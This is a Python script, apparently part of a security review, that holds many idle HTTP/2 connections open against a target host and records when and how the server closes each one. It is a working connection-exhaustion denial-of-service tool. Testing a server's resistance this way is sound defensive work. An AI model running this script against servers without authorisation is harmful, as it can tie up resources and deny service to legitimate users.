"""N9 attack (the second security review's h2hold.py, adapted to say when each connection ends).

N HTTP/2 connections send the preface and answer every server ping, and never open a stream,
for HOLD seconds. Changes from the review's script: it records the time (from the start) at
which each connection was closed and how (a GOAWAY with its code and debug text, or a bare
close), and counts a connection once.

    python3 h2hold.py HOST PORT HOLD_SECONDS N
"""
import select, socket, sys, time

import h2.config, h2.connection, h2.events

host, port, hold, n = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
t0 = time.time()
conns = []
for i in range(n):
    s = socket.create_connection((host, port)); s.settimeout(0.05)
    c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    c.initiate_connection(); s.sendall(c.data_to_send())
    conns.append([i, s, c, None])   # the last field: (seconds, how) once closed
pings = 0
while time.time() - t0 < hold and any(x[3] is None for x in conns):
    live = [x for x in conns if x[3] is None]
    ready, _, _ = select.select([x[1] for x in live], [], [], 0.2)
    for x in live:
        i, s, c, end = x
        if s not in ready:
            continue
        try:
            data = s.recv(65535)
            if not data:
                x[3] = (time.time() - t0, "closed"); continue
            for ev in c.receive_data(data):
                if isinstance(ev, h2.events.PingReceived):
                    pings += 1
                if isinstance(ev, h2.events.ConnectionTerminated):
                    x[3] = (time.time() - t0, f"GOAWAY {ev.error_code!r} {ev.additional_data!r}")
            out = c.data_to_send()
            if out:
                s.sendall(out)
        except socket.timeout:
            pass
        except OSError as e:
            x[3] = (time.time() - t0, f"socket error {e}")
open_ = [x for x in conns if x[3] is None]
print(f"after {time.time()-t0:.1f}s: {len(open_)} of {n} connections still open (no stream opened; answered {pings} server pings)")
ends = {}
for i, s, c, end in conns:
    if end is not None:
        ends.setdefault(end[1], []).append(end[0])
for how, times in ends.items():
    print(f"  {len(times)} ended between {min(times):.1f}s and {max(times):.1f}s: {how}")
